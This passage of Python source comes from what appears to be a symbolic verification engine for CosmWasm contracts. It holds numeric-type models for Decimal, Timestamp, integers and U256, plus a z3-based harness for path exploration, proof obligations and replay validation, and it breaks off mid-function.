            MODELS['<%s as std::ops::Add>::add' % self_] = add
            MODELS['<%s as std::ops::Sub>::sub' % self_] = sub
            MODELS['<%s as std::ops::Mul>::mul' % self_] = mul
            MODELS['<%s as std::ops::Div>::div' % self_] = div
        MODELS['cosmwasm_std::math::%s::<impl std::ops::Mul for cosmwasm_std::%s>::mul' % (ty.lower(), UT)] = \
            lambda it, a, c: MODELS[CS + UT + '::mul_floor'](it, a, c)
        MODELS['cosmwasm_std::math::%s::<impl std::ops::Mul<cosmwasm_std::%s> for cosmwasm_std::%s>::mul' % (ty.lower(), ty, UT)] = \
            lambda it, a, c: MODELS[CS + UT + '::mul_floor'](it, a, c)
        def assign(op):
            def f(it, a, c):
                a[0].set(op(it, [deref(a[0]), a[1]], c)); return UNIT()
            return f
        MODELS['<%s as std::ops::AddAssign>::add_assign' % T] = assign(add)
        MODELS['<%s as std::ops::SubAssign>::sub_assign' % T] = assign(sub)
        MODELS['<%s as std::ops::MulAssign>::mul_assign' % T] = assign(mul)
        MODELS['<%s as std::default::Default>::default' % T] = lambda it, a, c: D(0)
        def from_str(it, a, c):
            s = deref(a[0])
            if s.s is None: raise Unsupported('Decimal::from_str of symbolic string')
            whole, _, frac = s.s.partition('.')
            if not whole.isdigit() or (frac and not frac.isdigit()) or len(frac) > 18:
                return ERR(Opaque('StdError::GenericErr', 'parse decimal'))
            r = int(whole) * E18 + int((frac + '0' * 18)[:18])
            if r >= 2 ** bits: return ERR(Opaque('StdError::GenericErr', 'Value too big'))
            return OK(D(r))
        MODELS['<%s as std::str::FromStr>::from_str' % T] = from_str
        CONSTS[P + 'MAX'] = D(2 ** bits - 1)
        CONSTS['<%s>::MAX' % T] = D(2 ** bits - 1)
    _mkd(_ty, _bits)


class _PowOverflow(Exception):
    pass


def unum(v):
    """numeric argument that may be a Uint newtype or a native integer (impl Into<Uint128>)."""
    x = deref(v)
    if isinstance(x, Agg): return x.fields[0]
    if isinstance(x, bool): return int(x)
    return x


# ---- Timestamp ---------------------------------------------------------------------------------------
@model('cosmwasm_std::Timestamp::nanos')
def _ts_nanos(it, a, c): return _ts(a[0])
@model('cosmwasm_std::Timestamp::seconds')
def _ts_seconds(it, a, c): return it.ctx.div(_ts(a[0]), 10 ** 9)
@model('cosmwasm_std::Timestamp::subsec_nanos')
def _ts_subsec(it, a, c): return it.ctx.rem(_ts(a[0]), 10 ** 9)
@model('cosmwasm_std::Timestamp::from_nanos')
def _ts_from_nanos(it, a, c): return TS(a[0])
@model('cosmwasm_std::Timestamp::from_seconds')
def _ts_from_seconds(it, a, c):
    r = a[0] * 10 ** 9
    guard(it, in_range(r, 64), 'attempt to multiply with overflow'); return TS(r)
def _ts_plus(mult):
    def f(it, a, c):
        r = _ts(a[0]) + a[1] * mult
        guard(it, in_range(r, 64), 'attempt to add with overflow'); return TS(r)
    return f
def _ts_minus(mult):
    def f(it, a, c):
        r = _ts(a[0]) - a[1] * mult
        guard(it, in_range(r, 64), 'attempt to subtract with overflow'); return TS(r)
    return f
MODELS['cosmwasm_std::Timestamp::plus_nanos'] = _ts_plus(1)
MODELS['cosmwasm_std::Timestamp::plus_seconds'] = _ts_plus(10 ** 9)
MODELS['cosmwasm_std::Timestamp::plus_minutes'] = _ts_plus(60 * 10 ** 9)
MODELS['cosmwasm_std::Timestamp::plus_hours'] = _ts_plus(3600 * 10 ** 9)
MODELS['cosmwasm_std::Timestamp::plus_days'] = _ts_plus(86400 * 10 ** 9)
MODELS['cosmwasm_std::Timestamp::minus_nanos'] = _ts_minus(1)
MODELS['cosmwasm_std::Timestamp::minus_seconds'] = _ts_minus(10 ** 9)
MODELS['<cosmwasm_std::Timestamp as std::default::Default>::default'] = lambda it, a, c: TS(0)
MODELS['cosmwasm_std::Uint64::to_be_bytes'] = lambda it, a, c: Agg('bytes_of_u64', [u(a[0])])

# ---- core integer methods -------------------------------------------------------------------------------
for _t, _b in INTBITS.items():
    if _t in SIGNED: continue
    def _mki(t, b):
        P = 'core::num::<impl %s>::' % t
        def chk(op):
            def f(it, a, c):
                r = op(it, a[0], a[1])
                if r is None: return NONE()
                if it.ctx.branch(in_range(r, b), 'checked'): return SOME(r)
                return NONE()
            return f
        MODELS[P + 'checked_add'] = chk(lambda it, x, y: x + y)
        MODELS[P + 'checked_sub'] = chk(lambda it, x, y: x - y)
        MODELS[P + 'checked_mul'] = chk(lambda it, x, y: x * y)
        def cdiv(it, a, c):
            if it.ctx.branch(a[1] == 0, 'div0'): return NONE()
            return SOME(it.ctx.div(a[0], a[1]))
        MODELS[P + 'checked_div'] = cdiv
        def cpow(it, a, c):
            if is_sym(a[1]): raise Unsupported('symbolic exponent')
            r = a[0] ** a[1]
            if it.ctx.branch(in_range(r, b), 'checked'): return SOME(r)
            return NONE()
        MODELS[P + 'checked_pow'] = cpow
        def powp(it, a, c):
            if is_sym(a[1]): raise Unsupported('symbolic exponent')
            r = a[0] ** a[1]
            guard(it, in_range(r, b), 'attempt to multiply with overflow'); return r
        MODELS[P + 'pow'] = powp
        MODELS[P + 'saturating_sub'] = lambda it, a, c: zmax(a[0] - a[1], 0)
        MODELS[P + 'saturating_add'] = lambda it, a, c: zmin(a[0] + a[1], 2 ** b - 1)
        MODELS[P + 'saturating_mul'] = lambda it, a, c: zmin(a[0] * a[1], 2 ** b - 1)
        MODELS[P + 'abs_diff'] = lambda it, a, c: zite(a[0] >= a[1], a[0] - a[1], a[1] - a[0])
        MODELS[P + 'max_value'] = lambda it, a, c: 2 ** b - 1
        MODELS[P + 'min_value'] = lambda it, a, c: 0
        def ovf(op):
            def f(it, a, c):
                r = op(a[0], a[1])
                ok = in_range(r, b)
                if it.ctx.branch(ok, 'overflowing'): return Agg('tuple', [r, False])
                return Agg('tuple', [it.ctx.rem(r, 2 ** b), True])
            return f
        MODELS[P + 'overflowing_add'] = ovf(lambda x, y: x + y)
        MODELS[P + 'overflowing_sub'] = ovf(lambda x, y: x - y)
        MODELS[P + 'overflowing_mul'] = ovf(lambda x, y: x * y)
        MODELS['<%s as std::cmp::Ord>::min' % t] = lambda it, a, c: zmin(a[0], a[1])
        MODELS['<%s as std::cmp::Ord>::max' % t] = lambda it, a, c: zmax(a[0], a[1])
        MODELS['<%s as std::cmp::Ord>::cmp' % t] = lambda it, a, c: _ordering(it, deref(a[0]), deref(a[1]))
        MODELS['<%s as std::cmp::PartialOrd>::partial_cmp' % t] = lambda it, a, c: SOME(_ordering(it, deref(a[0]), deref(a[1])))
        MODELS['<%s as std::default::Default>::default' % t] = lambda it, a, c: 0
        MODELS['<%s as std::clone::Clone>::clone' % t] = lambda it, a, c: deref(a[0])
        MODELS['<%s as num_traits::ToPrimitive>::to_u128' % t] = lambda it, a, c: SOME(deref(a[0]))
        def to_u64(it, a, c):
            v = deref(a[0])
            if b <= 64: return SOME(v)
            return SOME(v) if it.ctx.branch(in_range(v, 64), 'to_u64') else NONE()
        MODELS['<%s as num_traits::ToPrimitive>::to_u64' % t] = to_u64
        CONSTS['core::num::<impl %s>::MAX' % t] = 2 ** b - 1
        CONSTS['core::num::<impl %s>::MIN' % t] = 0
        CONSTS['%s::MAX' % t] = 2 ** b - 1
    _mki(_t, _b)

for _t in list(INTBITS) + ['bool']:
    for _op in ('eq', 'ne', 'lt', 'le', 'gt', 'ge'):
        def _mkc(op):
            def f(it, a, c):
                x, y = deref(a[0]), deref(a[1])
                if op == 'eq': return x == y
                if op == 'ne': return x != y
                return {'lt': x < y, 'le': x <= y, 'gt': x > y, 'ge': x >= y}[op]
            return f
        tr = 'PartialOrd' if _op in ('lt', 'le', 'gt', 'ge') else 'PartialEq'
        MODELS['<%s as std::cmp::%s>::%s' % (_t, tr, _op)] = _mkc(_op)
        MODELS['std::cmp::impls::<impl std::cmp::%s for &%s>::%s' % (tr, _t, _op)] = _mkc(_op)
        MODELS['std::cmp::impls::<impl std::cmp::%s for %s>::%s' % (tr, _t, _op)] = _mkc(_op)

# integer-sqrt crate / uint crate
MODELS['<u128 as integer_sqrt::IntegerSquareRoot>::integer_sqrt'] = lambda it, a, c: it.ctx.isqrt(deref(a[0]))
MODELS['<u64 as integer_sqrt::IntegerSquareRoot>::integer_sqrt'] = lambda it, a, c: it.ctx.isqrt(deref(a[0]))


# ---- uint-crate U256 (construct_uint! in white_whale_std::pool_network::uints) -------------------------------------
def _u256_models():
    def UU(t): return Agg('white_whale_std::pool_network::uints::U256', [t])
    def x(v):
        v = deref(v)
        if isinstance(v, Agg): return v.fields[0]
        if isinstance(v, bool): return int(v)
        return v
    B = 256
    for P in ('white_whale_std::pool_network::uints::U256', 'white_whale_std::pool_network::U256'):
        Q = P + '::'
        MODELS[Q + 'zero'] = lambda it, a, c: UU(0)
        MODELS[Q + 'one'] = lambda it, a, c: UU(1)
        MODELS[Q + 'max_value'] = lambda it, a, c: UU(2 ** B - 1)
        MODELS[Q + 'is_zero'] = lambda it, a, c: x(a[0]) == 0
        def chk(op):
            def f(it, a, c):
                r = op(x(a[0]), x(a[1]))
                if it.ctx.branch(in_range(r, B), 'checked'): return SOME(UU(r))
                return NONE()
            return f
        MODELS[Q + 'checked_add'] = chk(lambda p, q: p + q)
        MODELS[Q + 'checked_sub'] = chk(lambda p, q: p - q)
        MODELS[Q + 'checked_mul'] = chk(lambda p, q: p * q)
        def cdiv(it, a, c):
            if it.ctx.branch(x(a[1]) == 0, 'div0'): return NONE()
            return SOME(UU(it.ctx.div(x(a[0]), x(a[1]))))
        MODELS[Q + 'checked_div'] = cdiv
        def crem(it, a, c):
            if it.ctx.branch(x(a[1]) == 0, 'div0'): return NONE()
            return SOME(UU(it.ctx.rem(x(a[0]), x(a[1]))))
        MODELS[Q + 'checked_rem'] = crem
        def cpow(it, a, c):
            e = x(a[1])
            if is_sym(e): raise Unsupported('symbolic exponent')
            r = x(a[0]) ** e
            if it.ctx.branch(in_range(r, B), 'checked'): return SOME(UU(r))
            return NONE()
        MODELS[Q + 'checked_pow'] = cpow
        MODELS[Q + 'saturating_sub'] = lambda it, a, c: UU(zmax(x(a[0]) - x(a[1]), 0))
        MODELS[Q + 'integer_sqrt'] = lambda it, a, c: UU(it.ctx.isqrt(x(a[0])))
        def as_n(bits):
            def f(it, a, c):
                v = x(a[0])
                guard(it, in_range(v, bits), 'Integer overflow when casting to u%d' % bits); return v
            return f
        MODELS[Q + 'as_u128'] = as_n(128); MODELS[Q + 'as_u64'] = as_n(64); MODELS[Q + 'as_u32'] = as_n(32)
        MODELS[Q + 'low_u128'] = lambda it, a, c: it.ctx.rem(x(a[0]), 2 ** 128)
        MODELS[Q + 'low_u64'] = lambda it, a, c: it.ctx.rem(x(a[0]), 2 ** 64)
        MODELS[Q + 'abs_diff'] = lambda it, a, c: UU(zite(x(a[0]) >= x(a[1]), x(a[0]) - x(a[1]), x(a[1]) - x(a[0])))
        T = P
        def opn(op, msg):
            def f(it, a, c):
                if op == 'div':
                    guard(it, x(a[1]) != 0, 'division by zero'); return UU(it.ctx.div(x(a[0]), x(a[1])))
                if op == 'rem':
                    guard(it, x(a[1]) != 0, 'division by zero'); return UU(it.ctx.rem(x(a[0]), x(a[1])))
                r = {'add': x(a[0]) + x(a[1]), 'sub': x(a[0]) - x(a[1]), 'mul': x(a[0]) * x(a[1])}[op]
                guard(it, in_range(r, B), 'arithmetic operation overflow'); return UU(r)
            return f
        for tr, op in (('Add', 'add'), ('Sub', 'sub'), ('Mul', 'mul'), ('Div', 'div'), ('Rem', 'rem')):
            MODELS['<%s as std::ops::%s>::%s' % (T, tr, op)] = opn(op, '')
            def asg(op=op):
                def f(it, a, c): a[0].set(opn(op, '')(it, [deref(a[0]), a[1]], c)); return UNIT()
                return f
            MODELS['<%s as std::ops::%sAssign>::%s_assign' % (T, tr, op)] = asg()
        for o in ('lt', 'le', 'gt', 'ge'):
            MODELS['<%s as std::cmp::PartialOrd>::%s' % (T, o)] = _cmp(o)
            MODELS['std::cmp::impls::<impl std::cmp::PartialOrd for &%s>::%s' % (T, o)] = _cmp(o)
        for o in ('eq', 'ne'):
            MODELS['<%s as std::cmp::PartialEq>::%s' % (T, o)] = _cmp(o)
        MODELS['<%s as std::cmp::Ord>::cmp' % T] = lambda it, a, c: _ordering(it, x(a[0]), x(a[1]))
        MODELS['<%s as std::cmp::PartialOrd>::partial_cmp' % T] = lambda it, a, c: SOME(_ordering(it, x(a[0]), x(a[1])))
        MODELS['<%s as std::cmp::Ord>::min' % T] = lambda it, a, c: UU(zmin(x(a[0]), x(a[1])))
        MODELS['<%s as std::cmp::Ord>::max' % T] = lambda it, a, c: UU(zmax(x(a[0]), x(a[1])))
        MODELS['<%s as std::convert::From>::from' % T] = lambda it, a, c: UU(x(a[0]))
        MODELS['<%s as std::default::Default>::default' % T] = lambda it, a, c: UU(0)
        def into(it, a, c):
            m = re.match(r'^<(.+) as std::convert::Into<(.+)>>::into$', c.inst)
            dst = m.group(2).strip() if m else ''
            dn = dst.split('::')[-1]
            if dn in UBITS:
                guard(it, in_range(x(a[0]), UBITS[dn]), 'conversion overflow'); return mkU(dn, x(a[0]))
            if dn == 'U256': return UU(x(a[0]))
            raise Unsupported('U256 into ' + dst)
        MODELS['<%s as std::convert::Into>::into' % T] = into
        MODELS['<%s as num_traits::ToPrimitive>::to_u128' % T] = lambda it, a, c: SOME(x(a[0])) if it.ctx.branch(in_range(x(a[0]), 128), 'to_u128') else NONE()
        MODELS['<%s as num_traits::ToPrimitive>::to_u64' % T] = lambda it, a, c: SOME(x(a[0])) if it.ctx.branch(in_range(x(a[0]), 64), 'to_u64') else NONE()
    CONVERSIONS[('u128', 'white_whale_std::pool_network::U256')] = lambda it, v: UU(v)
    CONVERSIONS[('u128', 'white_whale_std::pool_network::uints::U256')] = lambda it, v: UU(v)
    CONVERSIONS[('u64', 'white_whale_std::pool_network::U256')] = lambda it, v: UU(v)
    CONVERSIONS[('u64', 'white_whale_std::pool_network::uints::U256')] = lambda it, v: UU(v)
_u256_models()


def _std_minmax(which):
    def f(it, a, c):
        p, q = deref(a[0]), deref(a[1])
        if isinstance(p, Agg) and len(p.fields) == 1:
            xp, xq = p.fields[0], q.fields[0]
            if isinstance(xp, Agg): xp, xq = xp.fields[0], xq.fields[0]
            pick_first = (xp <= xq) if which == 'min' else (xp > xq)     # std::cmp::min returns the first on ties, max the second
            if isinstance(pick_first, bool): return a[0] if pick_first else a[1]
            r = zite(pick_first, xp, xq)
            inner = p.fields[0]
            return Agg(p.name, [r]) if not isinstance(inner, Agg) else Agg(p.name, [Agg(inner.name, [r])])
        if isinstance(p, (int,)) or is_sym(p): return zmin(p, q) if which == 'min' else zmax(p, q)
        raise Unsupported('std::cmp::%s of %r' % (which, p))
    return f
MODELS['std::cmp::min'] = _std_minmax('min')
MODELS['std::cmp::max'] = _std_minmax('max')

for _t in INTBITS:
    MODELS['std::convert::num::ptr_try_from_impls::<impl std::convert::TryFrom for %s>::try_from' % _t] = _try_from
    MODELS['core::convert::num::ptr_try_from_impls::<impl std::convert::TryFrom for %s>::try_from' % _t] = _try_from
MODELS['<std::vec::IntoIter as std::iter::ExactSizeIterator>::len'] = None
del MODELS['<std::vec::IntoIter as std::iter::ExactSizeIterator>::len']


def _more_fraction_ops():
    for ty, bits in UBITS.items():
        P = CS + ty + '::'
        def mk(ty=ty, bits=bits):
            def cdiv(it, a, c, ceil=False, checked=True):
                num, den = frac_parts(a[1])
                x = u(a[0])
                if it.ctx.branch(num == 0, 'div0'):
                    if checked: return ERR(Enum('cosmwasm_std::CheckedMultiplyFractionError', 'DivideByZero', [err_divzero()]))
                    raise PanicPath('Division failed - denominator must not be zero')
                q, rm = it.ctx.divmod(x * den, num)
                r = q + (zite(rm == 0, 0, 1) if is_sym(rm) else (0 if rm == 0 else 1)) if ceil else q
                if it.ctx.branch(in_range(r, bits), 'checked'): return OK(mkU(ty, r)) if checked else mkU(ty, r)
                if checked: return ERR(Enum('cosmwasm_std::CheckedMultiplyFractionError', 'ConversionOverflow', [err_conv()]))
                raise PanicPath('ConversionOverflowError (div_floor)')
            MODELS[P + 'checked_div_floor'] = lambda it, a, c: cdiv(it, a, c)
            MODELS[P + 'checked_div_ceil'] = lambda it, a, c: cdiv(it, a, c, ceil=True)
            MODELS[P + 'div_floor'] = lambda it, a, c: cdiv(it, a, c, checked=False)
            MODELS[P + 'div_ceil'] = lambda it, a, c: cdiv(it, a, c, ceil=True, checked=False)
            def mul_ceil(it, a, c):
                r = MODELS[P + 'checked_mul_ceil'](it, a, c)
                if r.variant == 'Err': raise PanicPath('ConversionOverflowError (mul_ceil)')
                return r.fields[0]
            MODELS[P + 'mul_ceil'] = mul_ceil
        mk()
_more_fraction_ops()
