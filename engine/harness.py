"""Check harness: path exploration of real entry points, obligations, verdict protocol, evidence."""
import json, os, sys, time, traceback, hashlib
import z3

from .values import *
from .core import Ctx, Interp, norm
from .frontend import Program, VERIF, REPO
from . import models_num, models_std, models_cw   # noqa: F401  (register models)
from .models_cw import World

EVID = os.path.join(VERIF, 'evidence')
REPLAYS = os.path.join(VERIF, 'replays')
KNOWN = os.path.join(VERIF, 'known_findings.json')

ENV_ASSUMPTIONS = [
    'CosmWasm transaction atomicity: an Err return, a panic or a failing message reverts every effect of the transaction '
    '(submessages with reply_on Error/Always are checked separately)',
    'bank and cw20-base semantics: transfers/burns move or destroy exactly the stated amount and fail on insufficient '
    'balance or allowance; attached funds are credited before execution',
    'Api::addr_validate accepts the addresses used and is injective',
    'cosmwasm-std 1.5.4 numerics, cw-storage-plus 1.1 key order and serde conventions as modelled in engine/models_*.py',
    'default cargo features (osmosis / injective / token-factory features off), as in the test suite',
    'other contracts answer queries with arbitrary well-typed values unless a premise is named',
]


def abstract_products(conds):
    """over-approximation of a set of integer constraints: each product of >= 2 non-numeral factors becomes a fresh Int; for squares
    x*x the axioms m >= 0 and (0 <= x <= y -> m_x <= m_y) are added."""
    cache = {}; prods = {}
    def walk(e):
        k = e.get_id()
        if k in cache: return cache[k]
        if z3.is_app(e) and e.num_args() > 0:
            args = [walk(a) for a in e.children()]
            if z3.is_mul(e):
                nums = [a for a in args if z3.is_int_value(a)]; rest = [a for a in args if not z3.is_int_value(a)]
                if len(rest) >= 2:
                    key = tuple(sorted(a.get_id() for a in rest))
                    if key not in prods: prods[key] = (z3.Int('prod!%d' % len(prods)), rest)
                    r = prods[key][0]
                    for n in nums: r = n * r
                else:
                    r = args[0]
                    for a in args[1:]: r = r * a
            else:
                r = e.decl()(*args)
        else: r = e
        cache[k] = r; return r
    out = [walk(c) for c in conds if not isinstance(c, bool)] + [c for c in conds if isinstance(c, bool)]
    squares = [(m, rest[0]) for m, rest in prods.values() if len(rest) == 2 and rest[0].get_id() == rest[1].get_id()]
    for m, x in squares: out.append(m >= 0)
    for m, x in squares:
        for n, y in squares:
            if m is not n: out.append(z3.Implies(z3.And(x >= 0, x <= y), m <= n))
    return out


class PathResult:
    __slots__ = ('kind', 'value', 'conds', 'world', 'log', 'msg', 'observed', 'tag', 'prefix', 'scenario', 'prog', 'extra', 'steps')
    def __init__(self, kind, value, conds, world, log, msg='', observed=None, prefix=None, scenario=None, prog=None):
        self.kind = kind; self.value = value; self.conds = conds; self.world = world; self.log = log; self.msg = msg
        self.observed = observed or {}; self.tag = ''; self.prefix = prefix; self.scenario = scenario; self.prog = prog
        self.extra = {}; self.steps = []
    @property
    def ok(self): return self.kind == 'ret' and isinstance(self.value, Enum) and self.value.variant == 'Ok'
    @property
    def err(self): return self.kind == 'ret' and isinstance(self.value, Enum) and self.value.variant == 'Err'
    def div(self, a, b):
        """floor division for specification terms, through the same hash-consed table the interpreter uses: a quotient
        the code also computed is the *same* z3 constant (discharge by normalisation), a new one gets its defining lemma."""
        from .core import Ctx
        tmp = Ctx.__new__(Ctx); tmp.defs = {}
        q, r = Ctx.divmod(tmp, a, b)
        for d in tmp.defs.values():
            if not any(d is x or (hasattr(x, 'eq') and x.eq(d)) for x in self.conds): self.conds.append(d)
        return q

    def short(self):
        if self.kind == 'ret':
            if isinstance(self.value, Enum) and self.value.variant == 'Err': return 'Err(%s)' % err_name(self.value.fields[0])
            if isinstance(self.value, Enum) and self.value.variant == 'Ok': return 'Ok'
            return 'ret'
        return '%s(%s)' % (self.kind, self.msg[:80])


def err_name(e):
    e = deref(e)
    if isinstance(e, Enum): return e.variant + ('(%s)' % err_name(e.fields[0]) if len(e.fields) == 1 and isinstance(deref(e.fields[0]), (Enum, Opaque)) else '')
    if isinstance(e, Opaque): return e.tag + ('(%s)' % err_name(e.payload) if isinstance(e.payload, (Enum, Opaque)) else '')
    if isinstance(e, Agg): return e.name.split('::')[-1]
    return type(e).__name__


class Check:
    def __init__(self, pid, argv=None):
        argv = argv if argv is not None else sys.argv[1:]
        self.pid = pid
        self.tier = os.environ.get('VERIF_TIER', 'quick')
        if '--tier' in argv: self.tier = argv[argv.index('--tier') + 1]
        self.seed = int(os.environ.get('VERIF_SEED', '0') or 0)
        self.t0 = time.time()
        self.oblig = []            # dicts
        self.paths_total = 0; self.entries = 0; self.feas_queries = 0; self.solver_s = 0.0
        self.unknown_feas = 0
        self.functions = set(); self.models = set(); self.stubs = set()
        self.bounds = {}; self.outside = []; self.assumptions = list(ENV_ASSUMPTIONS)
        self.violations = []; self.known_hits = []; self.inconclusive = []
        self.progs = {}
        self.samples = []
        self.validated = 0
        self.regen_s = 0.0
        self.vac = {'cover': 0, 'twin': 0}
        self.ob_timeout = 20000 if self.tier == 'quick' else 120000
        self.cross = {}
        try:
            self.known = json.load(open(KNOWN)).get('findings', [])
        except Exception:
            self.known = []
        z3.set_param('smt.random_seed', self.seed)

    # ------------------------------------------------------------------------------------------
    def program(self, *crates):
        key = tuple(crates)
        if key not in self.progs:
            p = Program(list(crates)); self.progs[key] = p; self.regen_s += p.regen_s
        return self.progs[key]

    def explore(self, prog, body, label='', unroll=40, feas_ms=2000, max_paths=4000, stubs=None, loop_abs=None, validate=True):
        """body(it) -> value.  It must build the world on it.world from named symbols (ctx.sym) and call it.run / it.call.
        Returns list of PathResult (one per feasible path)."""
        ctx = Ctx(feas_timeout_ms=feas_ms, seed=self.seed)
        results = []
        self.entries += 1
        while ctx.work:
            if len(results) >= max_paths:
                raise RuntimeError('%s: more than %d paths' % (label, max_paths))
            prefix = ctx.work.pop()
            ctx.start(prefix)
            it = Interp(prog, ctx, World())
            it.unroll_limit = unroll
            if stubs: it.stubs.update(stubs)
            if loop_abs: it.loop_abs.update(loop_abs)
            kind, val, msg = 'ret', None, ''
            try:
                val = body(it)
            except PanicPath as p:
                kind, msg = 'panic', p.msg + (' @ ' + p.where if p.where else '')
            except PathPruned:
                continue
            except LoopBack as lb:
                kind, msg = 'back', lb.fn; val = lb.values
            except BoundExceeded as b:
                kind, msg = 'bound', str(b)
            except Unsupported as e:
                kind, msg = 'unsupported', str(e)
                if os.environ.get('VERIF_TRACE'): traceback.print_exc()
            self.functions |= it.encoded; self.models |= it.models_used
            self.stubs |= set(it.stubs)
            pr = PathResult(kind, val, ctx.conds(), it.world, list(ctx.log), msg, dict(it.observed), list(ctx.prefix),
                            getattr(it, 'scenario', None), prog)
            pr.tag = label; pr.extra = dict(getattr(it, 'extra', {})); pr.steps = [x for x in getattr(it, 'rsteps', []) if x.kind is not None]
            results.append(pr)
        self.paths_total += len(results); self.feas_queries += ctx.nqueries; self.solver_s += ctx.qtime
        self.unknown_feas += ctx.nunknown
        self.last_ctx = ctx
        uns = [r for r in results if r.kind in ('unsupported', 'bound')]
        if uns:
            for r in uns[:5]:
                self.inconclusive.append('%s: %s path: %s' % (label, r.kind, r.msg))
        if validate and not os.environ.get('VERIF_NO_REPLAY'):
            self.validate(results, label)
        return results

    def validate(self, paths, label=''):
        """translation validation: one solver model per explored path, the real contract is run on it, and outcome class,
        every emitted message and the full storage afterwards must equal the interpreter's prediction."""
        from . import replay
        todo = []
        for p in paths:
            if not p.steps or p.kind not in ('ret', 'panic'): continue
            nice = [c for st in p.steps for c in st.scenario.get('nice', [])]
            r, model, dt = self.solve(p.conds + nice, 10000)
            if r != z3.sat:
                r, model, dt = self.solve(p.conds, 10000)
            if r != z3.sat: continue
            for st in p.steps:
                try:
                    sc, conc = replay.scenario(p.prog, st.scenario, model)
                except Exception as e:
                    self.inconclusive.append('%s: cannot serialise scenario for replay: %r' % (label, e)); continue
                todo.append((p, st, sc, conc))
        if not todo: return
        outs = replay.run_scenarios([sc for _, _, sc, _ in todo])
        for (p, st, sc, conc), real in zip(todo, outs):
            mism = replay.compare(p.prog, st, conc, real)
            if mism:
                os.makedirs(REPLAYS, exist_ok=True)
                fn = os.path.join(REPLAYS, '%s-mismatch-%d.json' % (self.pid, len(self.inconclusive)))
                json.dump(dict(scenario=sc, real=real, predicted=st.short(), mismatches=mism, decisions=p.log), open(fn, 'w'), indent=1)
                self.inconclusive.append('%s: interpreter and real contract disagree on path %s (%s): %s' % (label, p.short(), fn, mism[0][:300]))
            else:
                self.validated += 1

    # ------------------------------------------------------------------------------------------
    def cross_check(self, conds):
        """thorough tier: an `unsat` verdict is re-decided by an independent solver build (z3 4.8.12, /usr/bin/z3) on the SMT-LIB2 export of the
        same query; 'sat' there makes the obligation inconclusive, a time-out is only counted."""
        import subprocess, shutil
        exe = '/usr/bin/z3'
        if not os.path.exists(exe): return 'unavailable'
        s = z3.Solver(); s.add(*[c for c in conds if not isinstance(c, bool)])
        try:
            r = subprocess.run([exe, '-in', '-T:8'], input='(set-logic ALL)\n' + s.to_smt2(), capture_output=True, text=True, timeout=20)
        except Exception:
            return 'unknown'
        out = r.stdout.strip().split('\n')
        if any(l.startswith('(error') for l in out): return 'error'
        v = out[0] if out and out[0] in ('sat', 'unsat', 'unknown') else 'unknown'
        if v == 'unknown' and shutil.which('cvc5'):
            try:
                r2 = subprocess.run(['cvc5', '--lang', 'smt2', '--tlimit=8000'], input='(set-logic ALL)\n' + s.to_smt2(), capture_output=True, text=True, timeout=20)
                o2 = r2.stdout.strip().split('\n')
                if o2 and o2[0] in ('sat', 'unsat') and not any(l.startswith('(error') for l in o2): return o2[0] + ' (cvc5)'
            except Exception:
                pass
        return v

    def solve(self, conds, timeout_ms=None):
        s = z3.Solver(); s.set('timeout', timeout_ms or self.ob_timeout); s.set('random_seed', self.seed)
        s.add(*[c for c in conds if not isinstance(c, bool)])
        if any(isinstance(c, bool) and not c for c in conds): return z3.unsat, None, 0.0
        t = time.time(); r = s.check(); dt = time.time() - t
        self.solver_s += dt
        return r, (s.model() if r == z3.sat else None), dt

    def oblige(self, oid, path, violation, desc='', lemmas=(), site='', abstract=False, native_pred=None, nice=(), timeout_ms=None):
        """The property holds on `path` unless `violation` (z3 Bool / bool) is satisfiable under the path condition.
        abstract=True: first try the query with every product of variables replaced by a fresh integer constrained only by sign and
        by monotonicity between squares (an over-approximation: unsat there implies unsat of the exact query); fall back to the exact query."""
        conds = list(path.conds) + list(lemmas)
        if abstract and not isinstance(violation, bool):
            ab = abstract_products(conds + [violation])
            r, model, dt = self.solve(ab)
            if r == z3.unsat:
                self.oblig.append(dict(id=oid, verdict='unsat', how='product abstraction', s=round(dt, 3), desc=desc, path=path.short(), tag=path.tag))
                return 'unsat'
        if isinstance(violation, bool):
            if not violation:
                rec = dict(id=oid, verdict='unsat', how='trivial', s=0.0, desc=desc, path=path.short())
                self.oblig.append(rec); return 'unsat'
            violation = z3.BoolVal(True)
        if len(self.violations) >= 12:
            # twelve natively confirmed violations are already on record: the verdict of this run is VIOLATION whatever the remaining obligations say.
            # They are still asked, but with a short budget and without the seed portfolio, so that the report arrives in bounded time.
            r, model, dt = self.solve(conds + [violation], 1500)
            rec = dict(id=oid, verdict=str(r) if r != z3.unknown else 'not decided (run already has 12 confirmed violations)', s=round(dt, 3), desc=desc, path=path.short(), tag=path.tag)
            self.oblig.append(rec)
            if r == z3.sat: self.more_violations = getattr(self, 'more_violations', 0) + 1; rec['not_replayed'] = True
            return 'unsat' if r == z3.unsat else ('sat' if r == z3.sat else 'unknown')
        r, model, dt = self.solve(conds + [violation], timeout_ms)
        if r == z3.unknown:
            # portfolio: the verdict must not depend on the solver's random seed; retry with other seeds before giving up
            seed0 = self.seed
            for k in (1, 2, 3):
                self.seed = seed0 + 7919 * k
                try: r, model, dt2 = self.solve(conds + [violation], timeout_ms)
                finally: self.seed = seed0
                dt += dt2; self.retries = getattr(self, 'retries', 0) + 1
                if r != z3.unknown: break
        rec = dict(id=oid, verdict=str(r), s=round(dt, 3), desc=desc, path=path.short(), tag=path.tag)
        self.oblig.append(rec)
        if r == z3.unsat and self.tier == 'thorough' and not os.environ.get('VERIF_NO_CROSS'):
            x = self.cross_check(conds + [violation]); rec['cross_solver'] = x
            self.cross[x] = self.cross.get(x, 0) + 1
            if x.startswith('sat'):
                self.inconclusive.append('%s: z3 %s says unsat, a second solver says sat on the exported query' % (oid, z3.get_version_string())); return 'unknown'
        if r == z3.unsat: return 'unsat'
        if r == z3.unknown:
            self.inconclusive.append('%s: solver returned unknown (%.1fs)' % (oid, dt)); return 'unknown'
        self._violation(oid, desc, path, model, site, rec, native_pred=native_pred, retry=(conds + [violation], list(nice)))
        return 'sat'

    def expect_sat(self, oid, path, cond, desc=''):
        """vacuity guard: `cond` must be satisfiable under the path condition (a cover / twin query)."""
        r, model, dt = self.solve(list(path.conds) + ([cond] if not isinstance(cond, bool) else []))
        self.vac['cover'] += 1
        if r != z3.sat:
            self.inconclusive.append('%s: cover query is %s — the obligation would be vacuous' % (oid, r))
        return r == z3.sat

    def _violation(self, oid, desc, path, model, site, rec, native_pred=None, retry=None):
        key = site or path.short()
        for k in self.known:
            if k.get('property') == self.pid and (k.get('obligation') == oid or (k.get('prefix') and oid.startswith(k['obligation']))) and (not k.get('site') or k['site'] == key) \
                    and k.get('status', 'open') == 'open':
